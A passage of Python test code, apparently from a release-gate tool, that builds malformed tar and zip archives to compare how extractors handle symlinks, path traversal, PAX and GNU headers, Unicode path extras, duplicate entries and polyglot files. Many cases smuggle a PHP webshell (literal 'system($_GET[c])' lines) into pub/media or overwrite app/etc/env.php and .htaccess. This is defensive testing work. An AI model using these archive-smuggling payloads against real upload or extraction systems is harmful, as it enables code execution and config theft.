@case("t-symlink-then-file", "tar", "symlink pub/media/logo.txt -> ../../app/etc/env.php, then a regular file pub/media/logo.txt with env.php content",
      {"replaces the link": "pub/media/logo.txt = env.php content", "writes through the link": "app/etc/env.php = env.php content"}, ["links"])
def build_t_symlink_then_file() -> bytes:
    return (tar_header("app/etc/", typeflag=b"5", mode=0o755)
            + tar_header("pub/media/logo.txt", typeflag=b"2", linkname="../../app/etc/env.php", mode=0o777)
            + member("pub/media/logo.txt", ENV_PHP) + EOF)


@case("t-file-then-symlink", "tar", "a regular .env.example, then a symlink .env -> .env.example with DOTENV content",
      {"all": ".env -> .env.example (DOTENV content)"}, ["links"])
def build_t_file_then_symlink() -> bytes:
    return member(".env.example", DOTENV) + tar_header(".env", typeflag=b"2", linkname=".env.example", mode=0o777) + EOF


@case("t-symlink-escape", "tar", f"symlinks pub/media/up -> ../../.. and pub/media/abs -> {ESCAPE_DIR}/etc",
      {"made": "two symlinks that leave the tree"}, ["links", "escape"])
def build_t_symlink_escape() -> bytes:
    return (tar_header("pub/media/up", typeflag=b"2", linkname="../../..", mode=0o777)
            + tar_header("pub/media/abs", typeflag=b"2", linkname=f"{ESCAPE_DIR}/etc", mode=0o777) + EOF)


# ======================================================================================
# TAR: numbers, checksums, stream framing

@case("t-cksum-signed", "tar", "a header with a high-bit name (pub/media/x\\xe9.php) and the signed checksum",
      {"signed accepted": "pub/media/x\\xe9.php = shell", "refused": "error"}, ["framing"])
def build_t_cksum_signed() -> bytes:
    return member(b"pub/media/x\xe9.php", SHELL, checksum="signed") + EOF


@case("t-cksum-bad-middle", "tar", "a benign file, a header with a bad checksum for pub/media/bad.php, then pub/media/x.php",
      {"skip to next header (GNU)": "README.txt, pub/media/x.php", "stop": "README.txt"}, ["framing"])
def build_t_cksum_bad_middle() -> bytes:
    return (member("README.txt", BENIGN) + tar_header("pub/media/bad.php", size=len(SHELL), checksum="bad")
            + padded(SHELL) + member("pub/media/x.php", SHELL) + EOF)


@case("t-base256-size", "tar", "a file pub/media/x.php whose size is in GNU base-256",
      {"all": "pub/media/x.php = shell"}, ["framing"])
def build_t_base256_size() -> bytes:
    return tar_header("pub/media/x.php", size_field=base256(len(SHELL), 12), fmt="gnu") + padded(SHELL) + EOF


@case("t-base256-mode", "tar", "a file var/ww.txt whose mode 0o4777 is in base-256",
      {"all": "var/ww.txt mode 4777 (root)"}, ["framing"])
def build_t_base256_mode() -> bytes:
    return tar_header("var/ww.txt", size=len(BENIGN), patch={100: base256(0o4777, 8)}) + padded(BENIGN) + EOF


@case("t-size-space-padded", "tar", "size field '   55 ' style (leading spaces, trailing space)",
      {"all": "pub/media/x.php = shell"}, ["framing"])
def build_t_size_space_padded() -> bytes:
    field_ = (b"%o" % len(SHELL)).rjust(11, b" ") + b" "
    return tar_header("pub/media/x.php", size_field=field_) + padded(SHELL) + EOF


@case("t-lone-zero", "tar", "README.txt, one zero block, then pub/media/x.php",
      {"stop at zero block": "README.txt", "read on (tar -i)": "README.txt, pub/media/x.php = shell"}, ["framing"])
def build_t_lone_zero() -> bytes:
    return member("README.txt", BENIGN) + b"\0" * BLOCK + member("pub/media/x.php", SHELL) + EOF


@case("t-after-eof", "tar", "README.txt, two zero blocks, then pub/media/x.php (garbage after the end)",
      {"stop at end": "README.txt", "read on (tar -i)": "README.txt, pub/media/x.php = shell"}, ["framing"])
def build_t_after_eof() -> bytes:
    return member("README.txt", BENIGN) + EOF + member("pub/media/x.php", SHELL) + EOF


@case("t-no-eof", "tar", "pub/media/x.php and no end-of-archive blocks at all",
      {"all": "pub/media/x.php = shell"}, ["framing"])
def build_t_no_eof() -> bytes:
    return member("pub/media/x.php", SHELL)


@case("t-pax-size-override", "tar", "PAX size=0 for a ustar header whose size field says 1024 (a hidden header inside)",
      {"PAX size": "pub/media/a.php = shell-smuggle... (see readings of t-data-*)"}, ["pax", "framing"])
def build_t_pax_size_override() -> bytes:
    hidden_b = member("assets/notes.txt", SHELL)
    return (pax([("size", "0")]) + tar_header("assets/logo.txt", size=BLOCK)
            + tar_header("pub/media/a.php", size=len(hidden_b)) + hidden_b + EOF)


@case("t-pax-size-symlink", "tar", "PAX size=512 on a symlink whose ustar size is 0 (the next block: data or a header?)",
      SMUGGLE_READINGS, ["pax", "data-after-special"])
def build_t_pax_size_symlink() -> bytes:
    return smuggle(lambda n: pax([("size", str(n))]) + tar_header("pub/link", typeflag=b"2", linkname="README.txt", mode=0o777))


@case("t-pax-linkpath-vs-K", "tar", "symlink with PAX linkpath=README.txt and a GNU 'K' long link ../../../../etc",
      {"PAX linkpath": "pub/media/l -> README.txt", "K": "pub/media/l -> ../../../../etc"}, ["pax", "links"])
def build_t_pax_linkpath_vs_K() -> bytes:
    return (pax([("linkpath", "README.txt")]) + gnu_long("../../../../etc", b"K")
            + tar_header("pub/media/l", typeflag=b"2", linkname="x", mode=0o777, fmt="gnu") + EOF)


@case("t-world-writable", "tar", "control: var/ww.txt mode 0777, bin/suid mode 4755, a FIFO",
      {"all": "as stored"}, ["control"])
def build_t_world_writable() -> bytes:
    return (member("var/ww.txt", BENIGN, mode=0o777) + member("bin/suid", BENIGN, mode=0o4755)
            + tar_header("var/fifo", typeflag=b"6") + EOF)


@case("t-control", "tar", "control: a plain tar with pub/media/x.php, app/etc/env.php and .env",
      {"all": "as stored"}, ["control"])
def build_t_control() -> bytes:
    return member("pub/media/x.php", SHELL) + member("app/etc/env.php", ENV_PHP) + member(".env", DOTENV) + EOF


# ======================================================================================
# TAR: more cases found while modelling the extractors (release-gate's own)

@case("t-type-X", "tar", "a Solaris extended header (typeflag X) named pub/media/x.php whose records name assets/logo.txt and carry PHP in a comment",
      {"extended header (GNU tar, bsdtar, Python)": "assets/logo.txt = benign", "a file (PharData)": "pub/media/x.php = the records, PHP inside"}, ["pax", "typeflag"])
def build_t_type_X() -> bytes:
    records = b"".join(pax_record(k, v) for k, v in [("comment", "<?php system($_GET['c']); /* rg-shell */ ?>"), ("path", "assets/logo.txt")])
    return member("pub/media/x.php", records, typeflag=b"X") + member("assets/logo.txt", BENIGN) + EOF


@case("t-data-symlink-php", "tar", "symlink pub/media/x.php with a size field of 512; the next block is a header named '<?php system($_GET[c]); ?>'",
      {"no data (all but PharData)": "pub/media/x.php -> README.txt, an empty file named '<?php …'",
       "a file of the next 512 bytes (PharData)": "pub/media/x.php = that header: PHP runs the name"}, ["data-after-special"])
def build_t_data_symlink_php() -> bytes:
    return (tar_header("pub/media/x.php", size=BLOCK, typeflag=b"2", linkname="README.txt", mode=0o777)
            + tar_header("<?php system($_GET[c]); ?>") + member("README.txt", BENIGN) + EOF)


@case("t-pax-size-hardlink", "tar", "PAX size=512 on a hardlink pub/x -> README.txt (ustar size 0)",
      SMUGGLE_READINGS, ["pax", "data-after-special"])
def build_t_pax_size_hardlink() -> bytes:
    return member("README.txt", BENIGN) + smuggle(lambda n: pax([("size", str(n))]) + tar_header("pub/x", typeflag=b"1", linkname="README.txt"))


@case("t-pax-size-dir", "tar", "PAX size=512 on a directory pub/x/ (ustar size 0)",
      SMUGGLE_READINGS, ["pax", "data-after-special"])
def build_t_pax_size_dir() -> bytes:
    return smuggle(lambda n: pax([("size", str(n))]) + tar_header("pub/x/", typeflag=b"5", mode=0o755))


@case("t-pax-sparse-name-first", "tar", "PAX GNU.sparse.name=pub/media/x.php, then path=assets/logo.txt in the same header",
      {"GNU.sparse.name (GNU tar, bsdtar)": "pub/media/x.php = shell", "the later record (Python)": "assets/logo.txt = shell"}, ["pax", "sparse"])
def build_t_pax_sparse_name_first() -> bytes:
    return pax([("GNU.sparse.name", "pub/media/x.php"), ("path", "assets/logo.txt")]) + member("assets/logo.txt", SHELL) + EOF


@case("t-pax-v7-magic", "tar", "after a ustar entry, a PAX header without the ustar magic (path=assets/logo.txt), then pub/media/x.php",
      {"PAX applies (GNU tar, Python)": "assets/logo.txt = shell", "PAX ignored (bsdtar: malformed; PharData)": "pub/media/x.php = shell"}, ["pax"])
def build_t_pax_v7_magic() -> bytes:
    records = pax_record("path", "assets/logo.txt")
    return (member("README.txt", BENIGN) + member("PaxHeaders/x", records, typeflag=b"x", fmt="v7")
            + member("pub/media/x.php", SHELL) + EOF)


@case("t-K-then-pax-linkpath", "tar", "a GNU 'K' long link ../../../../etc, then a PAX linkpath=README.txt, then symlink pub/media/l",
      {"PAX linkpath (GNU tar)": "pub/media/l -> README.txt", "the first record (bsdtar, Python)": "pub/media/l -> ../../../../etc"}, ["pax", "links"])
def build_t_K_then_pax_linkpath() -> bytes:
    return (gnu_long("../../../../etc", b"K") + pax([("linkpath", "README.txt")])
            + tar_header("pub/media/l", typeflag=b"2", linkname="x", mode=0o777, fmt="gnu") + EOF)


@case("t-pax-two-size", "tar", "two PAX headers, size=0 then size=512, before assets/logo.txt whose ustar size is 512 (a hidden header inside)",
      {"the last size (GNU tar, bsdtar) or the ustar size (PharData)": "assets/logo.txt = 512 bytes, then assets/notes.txt",
       "the first size (Python)": "assets/logo.txt empty, then pub/media/a.php = header bytes + shell"}, ["pax", "framing"])
def build_t_pax_two_size() -> bytes:
    return smuggle(lambda n: pax([("size", "0")]) + pax([("size", str(n))]) + tar_header("assets/logo.txt", size=n))


@case("t-pax-v7-first", "tar", "a V7 archive (no ustar magic in the first header): a PAX header named pub/media/x.php with PHP in a comment, then assets/logo.txt",
      {"PAX header (GNU tar, bsdtar, Python)": "assets/logo.txt", "a file (PharData reads a pre-POSIX archive)": "pub/media/x.php = the records, PHP inside"}, ["pax"])
def build_t_pax_v7_first() -> bytes:
    records = b"".join(pax_record(k, v) for k, v in [("comment", "<?php system($_GET['c']); /* rg-shell */ ?>"), ("mtime", "1700000000")])
    return (member("README.txt", BENIGN, fmt="v7") + member("pub/media/x.php", records, typeflag=b"x", fmt="v7")
            + member("assets/logo.txt", BENIGN, fmt="v7") + EOF)


@case("t-pax-sparse-00", "tar", "a PAX 0.0 sparse file (GNU.sparse.size, offset/numbytes records) named pub/media/x.php, ustar name assets/logo.txt",
      {"sparse 0.0 understood": "pub/media/x.php = 100 NULs + shell", "sparse ignored (PharData)": "assets/logo.txt = shell"}, ["pax", "sparse"])
def build_t_pax_sparse_00() -> bytes:
    return (pax([("path", "pub/media/x.php"), ("GNU.sparse.size", str(100 + len(SHELL))), ("GNU.sparse.numblocks", "1"),
                 ("GNU.sparse.offset", "100"), ("GNU.sparse.numbytes", str(len(SHELL)))])
            + member("assets/logo.txt", SHELL) + EOF)


@case("t-type-S-extended", "tar", "an old-GNU sparse file 'S' pub/media/x.php whose map goes on in an extension block",
      {"sparse understood": "pub/media/x.php = chunks at 0 and 1000, zeros between", "raw (PharData)": "pub/media/x.php = the stored chunks"}, ["typeflag", "sparse"])
def build_t_type_S_extended() -> bytes:
    first, second = b"<?php /* rg-shell part */\n", SHELL
    realsize = 1000 + len(second)
    patch = {386: _octal(0, 12) + _octal(len(first), 12), 482: b"\x01", 483: _octal(realsize, 12)}
    extension = bytearray(BLOCK)
    extension[0:24] = _octal(1000, 12) + _octal(len(second), 12)
    return (tar_header("pub/media/x.php", size=len(first) + len(second), typeflag=b"S", fmt="gnu", patch=patch)
            + bytes(extension) + padded(first + second) + EOF)


@case("t-symlink-chain-dir", "tar", "symlinks a -> b and b -> pub/media (relative, no ..), then a/x.php",
      {"writes through both links (GNU tar, Python)": "pub/media/x.php = shell", "refuses (bsdtar)": "nothing"}, ["links"])
def build_t_symlink_chain_dir() -> bytes:
    return (tar_header("pub/media/", typeflag=b"5", mode=0o755) + tar_header("b", typeflag=b"2", linkname="pub/media", mode=0o777)
            + tar_header("a", typeflag=b"2", linkname="b", mode=0o777) + member("a/x.php", SHELL) + EOF)


@case("t-hardlink-through-link", "tar", "config/handlers.txt (AddType php), a symlink uploads -> pub/media, then a hardlink uploads/.htaccess -> config/handlers.txt",
      {"writes through the link": "pub/media/.htaccess = AddType php", "refuses": "nothing"}, ["links"])
def build_t_hardlink_through_link() -> bytes:
    return (member("config/handlers.txt", HTACCESS) + tar_header("pub/media/", typeflag=b"5", mode=0o755)
            + tar_header("uploads", typeflag=b"2", linkname="pub/media", mode=0o777)
            + tar_header("uploads/.htaccess", typeflag=b"1", linkname="config/handlers.txt") + EOF)


@case("t-pax-path-dotdot", "tar", "PAX path ../pub/media/x.php for a header named assets/logo.txt",
      {"refused (GNU tar, bsdtar, the data filter)": "nothing", "followed (Python)": "../pub/media/x.php", "ustar name (PharData)": "assets/logo.txt"}, ["pax", "paths"])
def build_t_pax_path_dotdot() -> bytes:
    return pax([("path", "../pub/media/x.php")]) + member("assets/logo.txt", SHELL) + EOF


@case("t-L-file-slash", "tar", "a GNU long name 'pub/media/x.php/' (trailing slash) for a regular file with a shell",
      {"a folder (GNU tar, bsdtar)": "pub/media/x.php/", "a file (Python, PharData)": "pub/media/x.php = shell"}, ["gnu", "paths"])
def build_t_L_file_slash() -> bytes:
    return gnu_long("pub/media/x.php/") + member("placeholder", SHELL, fmt="gnu") + EOF


# ======================================================================================
# ZIP: modes from hosts other than Unix

HOST_READINGS = {
    "host's high 16 bits honoured": "pub/media/link.txt -> ../../app/etc/env.php (symlink); var/ww.txt 0777; bin/suid 4755; pub/media/dir.php S_IFDIR with a shell",
    "host's mode ignored": "plain files 0644 (umask), link.txt holding the target as text",
}


def _host_case(host: int) -> None:
    def build() -> bytes:
        return make_zip([
            Z("pub/media/link.txt", b"../../app/etc/env.php", host=host, mode=S_IFLNK | 0o777),
            Z("var/ww.txt", BENIGN, host=host, mode=S_IFREG | 0o777),
            Z("bin/suid", BENIGN, host=host, mode=S_IFREG | 0o4755),
            Z("pub/media/dir.php", SHELL, host=host, mode=S_IFDIR | 0o755),
        ])
    case(f"z-host-{host:02d}", "zip", f"Unix modes (symlink, 0777, 4755, S_IFDIR with content) in entries made by host {host} ({HOST_NAMES[host]})",
         HOST_READINGS, ["zip-host"])(build)


for _host in sorted(HOST_NAMES):
    _host_case(_host)


@case("z-dos-dir-attr", "zip", "pub/media/x.php with a shell, made on MS-DOS, external attributes 0x10 (directory), no trailing slash",
      {"directory": "pub/media/x.php/ (dir)", "file": "pub/media/x.php = shell"}, ["zip-type"])
def build_z_dos_dir_attr() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, host=0, mode=None, dos=0x10)])


@case("z-dos-dir-attr-ntfs", "zip", "as z-dos-dir-attr, host 10 (NTFS)",
      {"directory": "pub/media/x.php/ (dir)", "file": "pub/media/x.php = shell"}, ["zip-type"])
def build_z_dos_dir_attr_ntfs() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, host=10, mode=None, dos=0x10)])


@case("z-unix-ifdir-content", "zip", "pub/media/x.php with a shell, Unix host, mode S_IFDIR|0755, no trailing slash",
      {"directory": "pub/media/x.php/ (dir)", "file": "pub/media/x.php = shell"}, ["zip-type"])
def build_z_unix_ifdir_content() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, host=3, mode=S_IFDIR | 0o755)])


@case("z-unix-dirbit-both", "zip", "Unix host, S_IFDIR mode and DOS 0x10, name pub/media/x.php, content a shell",
      {"directory": "pub/media/x.php/ (dir)", "file": "pub/media/x.php = shell"}, ["zip-type"])
def build_z_unix_dirbit_both() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, host=3, mode=S_IFDIR | 0o755, dos=0x10)])


@case("z-slash-with-content", "zip", "pub/media/x.php/ (trailing slash) with a shell as content",
      {"directory": "pub/media/x.php/ (dir)", "file": "pub/media/x.php = shell"}, ["zip-type"])
def build_z_slash_with_content() -> bytes:
    return make_zip([Z("pub/media/x.php/", SHELL, host=3, mode=S_IFREG | 0o644)])


@case("z-unix-ifreg-symlink-name", "zip", "control: a Unix symlink pub/media/link -> ../../app/etc",
      {"symlink understood": "pub/media/link -> ../../app/etc", "file": "pub/media/link = '../../app/etc'"}, ["control"])
def build_z_unix_ifreg_symlink_name() -> bytes:
    return make_zip([Z("pub/media/link", b"../../app/etc", host=3, mode=S_IFLNK | 0o777)])


@case("z-symlink-dir-write", "zip", "Unix symlink pub/static/cfg -> ../../app/etc, then pub/static/cfg/env.php",
      {"writes through": "app/etc/env.php = env.php content", "refuses/no symlinks": "pub/static/cfg/env.php (or nothing)"}, ["links"])
def build_z_symlink_dir_write() -> bytes:
    return make_zip([
        Z("app/etc/", b"", mode=S_IFDIR | 0o755),
        Z("pub/static/cfg", b"../../app/etc", host=3, mode=S_IFLNK | 0o777),
        Z("pub/static/cfg/env.php", ENV_PHP),
    ])


@case("z-symlink-then-file", "zip", "Unix symlink pub/media/logo.txt -> ../../app/etc/env.php, then a file pub/media/logo.txt with env.php content",
      {"replaces the link": "pub/media/logo.txt = env.php content", "writes through": "app/etc/env.php = env.php content"}, ["links"])
def build_z_symlink_then_file() -> bytes:
    return make_zip([
        Z("app/etc/", b"", mode=S_IFDIR | 0o755),
        Z("pub/media/logo.txt", b"../../app/etc/env.php", host=3, mode=S_IFLNK | 0o777),
        Z("pub/media/logo.txt", ENV_PHP),
    ])


# ======================================================================================
# ZIP: names

@case("z-backslash-dos", "zip", "name pub\\media\\x.php made on MS-DOS (host 0)",
      {"backslash is a separator": "pub/media/x.php = shell", "literal": "'pub\\media\\x.php' = shell"}, ["zip-names"])
def build_z_backslash_dos() -> bytes:
    return make_zip([Z("pub\\media\\x.php", SHELL, host=0, mode=None, dos=0x20)])


@case("z-backslash-unix", "zip", "name pub\\media\\x.php made on Unix (host 3)",
      {"backslash is a separator": "pub/media/x.php = shell", "literal": "'pub\\media\\x.php' = shell"}, ["zip-names"])
def build_z_backslash_unix() -> bytes:
    return make_zip([Z("pub\\media\\x.php", SHELL, host=3)])


@case("z-backslash-ntfs-utf8", "zip", "name pub\\media\\x.php made on NTFS (host 10) with the UTF-8 flag",
      {"backslash is a separator": "pub/media/x.php = shell", "literal": "'pub\\media\\x.php' = shell"}, ["zip-names"])
def build_z_backslash_ntfs_utf8() -> bytes:
    return make_zip([Z("pub\\media\\x.php", SHELL, host=10, mode=None, dos=0x20, flags=0x800)])


@case("z-unicode-extra", "zip", "central and local name assets/logo.txt, Unicode Path extra (0x7075, CRC matching) pub/media/x.php, in both headers",
      {"Unicode Path used": "pub/media/x.php = shell", "name used": "assets/logo.txt = shell", "who": "see DESIGN.md 3.2 (unzip/bsdtar/libzip/Python/gate differ by header and flag)"}, ["zip-names"])
def build_z_unicode_extra() -> bytes:
    extra = unicode_path_extra("pub/media/x.php", "assets/logo.txt")
    return make_zip([Z("assets/logo.txt", SHELL, host=0, mode=None, dos=0x20, extra_local=extra, extra_central=extra)])


@case("z-unicode-extra-rev", "zip", "name pub/media/x.php (MS-DOS host), Unicode Path extra (CRC matching) assets/logo.txt, in both headers",
      {"Unicode Path used": "assets/logo.txt = shell", "name used": "pub/media/x.php = shell"}, ["zip-names"])
def build_z_unicode_extra_rev() -> bytes:
    extra = unicode_path_extra("assets/logo.txt", "pub/media/x.php")
    return make_zip([Z("pub/media/x.php", SHELL, host=0, mode=None, dos=0x20, extra_local=extra, extra_central=extra)])


@case("z-unicode-extra-rev-unix", "zip", "as z-unicode-extra-rev, made on Unix (host 3)",
      {"Unicode Path used": "assets/logo.txt = shell", "name used": "pub/media/x.php = shell"}, ["zip-names"])
def build_z_unicode_extra_rev_unix() -> bytes:
    extra = unicode_path_extra("assets/logo.txt", "pub/media/x.php")
    return make_zip([Z("pub/media/x.php", SHELL, host=3, extra_local=extra, extra_central=extra)])


@case("z-unicode-extra-unix", "zip", "as z-unicode-extra, made on Unix (host 3)",
      {"Unicode Path used": "pub/media/x.php = shell", "name used": "assets/logo.txt = shell", "who": "see DESIGN.md 3.2 (unzip/bsdtar/libzip/Python/gate differ by header and flag)"}, ["zip-names"])
def build_z_unicode_extra_unix() -> bytes:
    extra = unicode_path_extra("pub/media/x.php", "assets/logo.txt")
    return make_zip([Z("assets/logo.txt", SHELL, host=3, extra_local=extra, extra_central=extra)])


@case("z-unicode-extra-badcrc", "zip", "Unicode Path extra pub/media/x.php whose CRC does not match the name assets/logo.txt",
      {"Unicode Path used anyway": "pub/media/x.php = shell", "name used": "assets/logo.txt = shell"}, ["zip-names"])
def build_z_unicode_extra_badcrc() -> bytes:
    extra = unicode_path_extra("pub/media/x.php", "assets/logo.txt", crc=0x12345678)
    return make_zip([Z("assets/logo.txt", SHELL, host=0, mode=None, dos=0x20, extra_local=extra, extra_central=extra)])


@case("z-unicode-extra-central-only", "zip", "Unicode Path extra pub/media/x.php in the central header only",
      {"Unicode Path used": "pub/media/x.php = shell", "name used": "assets/logo.txt = shell", "who": "see DESIGN.md 3.2 (unzip/bsdtar/libzip/Python/gate differ by header and flag)"}, ["zip-names"])
def build_z_unicode_extra_central_only() -> bytes:
    extra = unicode_path_extra("pub/media/x.php", "assets/logo.txt")
    return make_zip([Z("assets/logo.txt", SHELL, host=0, mode=None, dos=0x20, extra_central=extra)])


@case("z-unicode-extra-local-only", "zip", "Unicode Path extra pub/media/x.php in the local header only",
      {"Unicode Path used": "pub/media/x.php = shell", "name used": "assets/logo.txt = shell", "who": "see DESIGN.md 3.2 (unzip/bsdtar/libzip/Python/gate differ by header and flag)"}, ["zip-names"])
def build_z_unicode_extra_local_only() -> bytes:
    extra = unicode_path_extra("pub/media/x.php", "assets/logo.txt")
    return make_zip([Z("assets/logo.txt", SHELL, host=0, mode=None, dos=0x20, extra_local=extra)])


@case("z-unicode-extra-utf8flag", "zip", "UTF-8 flag set on the name assets/logo.txt and a Unicode Path extra pub/media/x.php",
      {"Unicode Path used": "pub/media/x.php = shell", "name used": "assets/logo.txt = shell", "who": "see DESIGN.md 3.2 (unzip/bsdtar/libzip/Python/gate differ by header and flag)"}, ["zip-names"])
def build_z_unicode_extra_utf8flag() -> bytes:
    extra = unicode_path_extra("pub/media/x.php", "assets/logo.txt")
    return make_zip([Z("assets/logo.txt", SHELL, host=3, flags=0x800, extra_local=extra, extra_central=extra)])


@case("z-local-central-name", "zip", "central name assets/logo.txt, local header name pub/media/x.php",
      {"central name (unzip, PHP, gate)": "assets/logo.txt = shell", "local name (bsdtar, seekable or not)": "pub/media/x.php = shell", "refuses (Python)": "error"}, ["zip-names"])
def build_z_local_central_name() -> bytes:
    return make_zip([Z("assets/logo.txt", SHELL, local_name="pub/media/x.php")])


@case("z-name-nul", "zip", "central and local name 'pub/media/x.php<NUL>.txt'",
      {"cut at NUL": "pub/media/x.php = shell", "whole": "'pub/media/x.php\\0.txt'"}, ["zip-names", "nul"])
def build_z_name_nul() -> bytes:
    return make_zip([Z(b"pub/media/x.php\0.txt", SHELL)])


@case("z-path-dot", "zip", "pub/./media/x.php and pub//media/y.php",
      {"normalised": "pub/media/x.php, pub/media/y.php = shell"}, ["paths"])
def build_z_path_dot() -> bytes:
    return make_zip([Z("pub/./media/x.php", SHELL), Z("pub//media/y.php", SHELL)])


@case("z-path-dotdot", "zip", "../../pub/media/x.php and var/../app/etc/env.php",
      {"'..' dropped": "pub/media/x.php = shell; var/app/etc/env.php or app/etc/env.php", "refused": "nothing"}, ["paths"])
def build_z_path_dotdot() -> bytes:
    return make_zip([Z("../../pub/media/x.php", SHELL), Z("var/../app/etc/env.php", ENV_PHP)])


@case("z-path-absolute", "zip", f"{ESCAPE_DIR}/pub/media/x.php and {ESCAPE_DIR}/z-abs.php",
      {"'/' stripped": "pub/media/x.php = shell", "kept absolute": f"{ESCAPE_DIR}/z-abs.php"}, ["paths", "escape"])
def build_z_path_absolute() -> bytes:
    return make_zip([Z(f"{ESCAPE_DIR}/pub/media/x.php", SHELL), Z(f"{ESCAPE_DIR}/z-abs.php", SHELL)])


@case("z-path-drive", "zip", "C:\\pub\\media\\x.php and C:/app/etc/env.php made on MS-DOS",
      {"drive stripped": "pub/media/x.php, app/etc/env.php", "literal": "'C:\\pub\\media\\x.php', 'C:/app/etc/env.php'"}, ["paths"])
def build_z_path_drive() -> bytes:
    return make_zip([Z("C:\\pub\\media\\x.php", SHELL, host=0, mode=None, dos=0x20),
                     Z("C:/app/etc/env.php", ENV_PHP, host=0, mode=None, dos=0x20)])


# ======================================================================================
# ZIP: duplicates, framing, prepended and appended data

@case("z-dup-name", "zip", "two entries app/etc/config.php: a benign one, then env.php content",
      {"last wins": "app/etc/config.php = env.php content", "first wins": "app/etc/config.php = benign", "refuses": "error"}, ["dup"])
def build_z_dup_name() -> bytes:
    return make_zip([Z("app/etc/config.php", BENIGN), Z("app/etc/config.php", ENV_PHP)])


@case("z-dup-central-same-local", "zip", "two central entries (assets/logo.txt, pub/media/x.php) pointing to one local header",
      {"both": "assets/logo.txt and pub/media/x.php = shell", "refuses overlap": "error"}, ["dup"])
def build_z_dup_central_same_local() -> bytes:
    e = Z("assets/logo.txt", SHELL)
    parts = zip_parts([e])
    second = central_header(Z("pub/media/x.php", SHELL), SHELL, 0)
    central = parts.central + second
    return parts.locals_ + central + eocd(2, len(central), len(parts.locals_))


@case("z-local-only", "zip", "pub/media/x.php has a local header but no central entry (README.txt has both)",
      {"central directory": "README.txt", "streaming (local headers)": "README.txt, pub/media/x.php = shell"}, ["zip-stream"])
def build_z_local_only() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, in_central=False), Z("README.txt", BENIGN)])


@case("z-stream-dd-smuggle", "zip", "a stored entry with a data descriptor (bit 3) whose data holds a fake descriptor + a local header of pub/media/x.php",
      {"central directory": "README.txt = (header bytes + shell)", "streaming": "README.txt short, pub/media/x.php = shell"}, ["zip-stream"])
def build_z_stream_dd_smuggle() -> bytes:
    inner = Z("pub/media/x.php", SHELL)
    inner_bytes = local_header(inner, SHELL) + SHELL
    fake_dd = struct.pack("<IIII", 0x08074B50, zlib.crc32(b""), 0, 0)
    data = fake_dd + inner_bytes + struct.pack("<IIII", 0x08074B50, zlib.crc32(SHELL), len(SHELL), len(SHELL))
    outer = Z("README.txt", data, flags=0x08, local_crc=0, local_csize=0, local_usize=0)
    parts = zip_parts([outer])
    real_dd = struct.pack("<IIII", 0x08074B50, zlib.crc32(data), len(data), len(data))
    locals_ = parts.locals_ + real_dd
    return locals_ + parts.central + eocd(1, len(parts.central), len(locals_))


@case("z-local-size-short", "zip", "stored README.txt: the local header's size covers 16 bytes; the rest of the data is a local header of pub/media/x.php",
      {"central sizes": "README.txt = 16 bytes + header + shell", "local sizes (streaming)": "README.txt = 16 bytes, pub/media/x.php = shell"}, ["zip-stream"])
def build_z_local_size_short() -> bytes:
    inner = local_header(Z("pub/media/x.php", SHELL), SHELL) + SHELL
    data = BENIGN[:16] + inner
    return make_zip([Z("README.txt", data, local_csize=16, local_usize=16, local_crc=zlib.crc32(data[:16]))])


@case("z-method-mismatch", "zip", "central says stored, local says deflate, for pub/media/x.php (deflated shell stored)",
      {"central method": "pub/media/x.php = raw deflate bytes", "local method": "pub/media/x.php = shell"}, ["zip-stream"])
def build_z_method_mismatch() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, method=0, local_method=8, csize=None)])


@case("z-size-mismatch", "zip", "pub/media/x.php declares an uncompressed size of 5 (stored, real data longer)",
      {"declared size": "pub/media/x.php = first 5 bytes", "real data": "pub/media/x.php = shell", "refuses": "error"}, ["framing"])
def build_z_size_mismatch() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, usize=5, local_usize=5)])


@case("z-bad-crc", "zip", "pub/media/x.php with a wrong CRC in both headers",
      {"CRC ignored or file kept": "pub/media/x.php = shell", "refuses": "nothing"}, ["framing"])
def build_z_bad_crc() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL, crc=0xDEADBEEF, local_crc=0xDEADBEEF)])


@case("z-tar-then-zip", "zip", "a tar (README.txt) followed by a zip (pub/media/x.php, absolute offsets), named .zip",
      {"tar (first bytes: bsdtar, gate)": "README.txt", "zip (end of file: unzip, PHP, Python)": "pub/media/x.php = shell"}, ["polyglot"])
def build_z_tar_then_zip() -> bytes:
    tar = member("README.txt", BENIGN) + EOF
    return make_zip([Z("pub/media/x.php", SHELL)], prepend=tar)


@case("z-tar-then-zip-rel", "zip", "as z-tar-then-zip, offsets relative to the zip (not fixed with zip -A)",
      {"tar (first bytes)": "README.txt", "zip, offsets adjusted": "pub/media/x.php = shell"}, ["polyglot"])
def build_z_tar_then_zip_rel() -> bytes:
    tar = member("README.txt", BENIGN) + EOF
    return make_zip([Z("pub/media/x.php", SHELL)], prepend=tar, absolute=False)


@case("z-sfx-stub", "zip", "8 KiB of an ELF-like stub, then a zip (absolute offsets)",
      {"zip (end of file)": "pub/media/x.php = shell", "not an archive": "error"}, ["polyglot"])
def build_z_sfx_stub() -> bytes:
    stub = b"\x7fELF\x02\x01\x01" + b"\0" * (8192 - 7)
    return make_zip([Z("pub/media/x.php", SHELL)], prepend=stub)


@case("z-zip-then-zip", "zip", "a zip of README.txt, then a second zip of pub/media/x.php (absolute offsets)",
      {"first zip": "README.txt", "last EOCD": "pub/media/x.php = shell"}, ["polyglot"])
def build_z_zip_then_zip() -> bytes:
    first = make_zip([Z("README.txt", BENIGN)])
    return first + make_zip([Z("pub/media/x.php", SHELL)], prepend=first)[len(first):]


@case("z-append-garbage", "zip", "a zip of pub/media/x.php followed by 100 bytes not counted in the comment",
      {"tolerant": "pub/media/x.php = shell", "refuses": "error"}, ["polyglot"])
def build_z_append_garbage() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL)], append=b"G" * 100)


@case("z-eocd-in-comment", "zip", "zip A (README.txt) + zip B (pub/media/x.php) whose EOCD comment is A's EOCD",
      {"last EOCD signature (A)": "README.txt", "EOCD B (whose comment ends at EOF)": "pub/media/x.php = shell"}, ["polyglot"])
def build_z_eocd_in_comment() -> bytes:
    a = zip_parts([Z("README.txt", BENIGN)])
    b = zip_parts([Z("pub/media/x.php", SHELL)], base=len(a.locals_) + len(a.central))
